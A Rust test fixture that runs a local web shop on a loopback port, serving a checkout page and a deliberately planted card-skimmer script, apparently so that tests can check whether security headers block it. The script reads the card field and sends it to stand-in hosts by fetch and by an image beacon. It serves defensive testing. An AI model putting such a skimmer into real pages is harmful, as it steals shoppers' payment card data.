//! A checkout page with a skimmer in it.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::mpsc::sync_channel;
use std::thread::JoinHandle;

use actix_web::dev::ServerHandle;
use actix_web::{App, HttpRequest, HttpResponse, HttpServer, rt, web};
use rustls::ServerConfig;
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, PrivateKeyDer};

use super::ca::Identity;

/// The page. It names its script by address, so that the policy can allow the script and nothing else.
const PAGE: &str = "<!doctype html><title>Checkout</title><form id=pay><input name=card value=4111111111111111>\
    </form><script src=/pay.js></script>";

/// Copies the card the two ways that skimmers do most: a request, and the address of an image.
const SCRIPT: &str = "const card = document.querySelector('[name=card]').value;\
    fetch('https://evil.skimmer.test/c?card=' + card + '&cvv=123').catch(() => {});\
    new Image().src = 'https://pixel.skimmer.test/i.gif?d=' + card;";

/// Headers that every page of the shop carries.
pub(crate) type Headers = Vec<(&'static str, String)>;

/// A web shop in this process. Closes when dropped.
#[derive(Debug)]
pub(crate) struct Shop {
    pub(crate) address: SocketAddr,
    server: ServerHandle,
    thread: Option<JoinHandle<()>>,
}

impl Shop {
    /// Opens on a free port; with an identity, by HTTPS.
    pub(crate) fn open(headers: Headers, identity: Option<&Identity>) -> Self {
        let tls = identity.map(tls);
        let (tell, told) = sync_channel(1);
        let thread = std::thread::spawn(move || {
            rt::System::new().block_on(async move {
                let server = HttpServer::new(move || {
                    let app = App::new().app_data(web::Data::new(headers.clone()));
                    app.default_service(web::to(answer))
                });
                let server = server.workers(1).disable_signals();
                let anywhere = (Ipv4Addr::LOCALHOST, 0);
                let server = match tls {
                    Some(tls) => server.bind_rustls_0_23(anywhere, tls),
                    None => server.bind(anywhere),
                };
                let server = server.expect("a loopback port is free");
                let address = server.addrs()[0];
                let server = server.run();
                tell.send((address, server.handle()))
                    .expect("the test waits");
                server.await.expect("the shop serves until it is closed");
            });
        });
        let (address, server) = told.recv().expect("the shop opens");
        Self {
            address,
            server,
            thread: Some(thread),
        }
    }
}

impl Drop for Shop {
    fn drop(&mut self) {
        // The command is on its way when `stop` returns; the shop's own thread carries it out.
        drop(self.server.stop(false));
        if let Some(thread) = self.thread.take() {
            thread.join().expect("the shop closes");
        }
    }
}

async fn answer(request: HttpRequest, headers: web::Data<Headers>) -> HttpResponse {
    let mut response = HttpResponse::Ok();
    match request.path() {
        "/pay.js" => return response.content_type("text/javascript").body(SCRIPT),
        "/checkout" => {}
        _ => return HttpResponse::NotFound().finish(),
    }
    for (name, value) in headers.iter() {
        response.insert_header((*name, value.as_str()));
    }
    response.content_type("text/html").body(PAGE)
}

fn tls(identity: &Identity) -> ServerConfig {
    let cert = CertificateDer::from_pem_file(&identity.cert).expect("a certificate");
    let key = PrivateKeyDer::from_pem_file(&identity.key).expect("a key");
    let ring = rustls::crypto::ring::default_provider().into();
    let config = ServerConfig::builder_with_provider(ring);
    let config = config.with_safe_default_protocol_versions();
    let config = config.expect("ring knows them").with_no_client_auth();
    config
        .with_single_cert(vec![cert], key)
        .expect("they belong together")
}
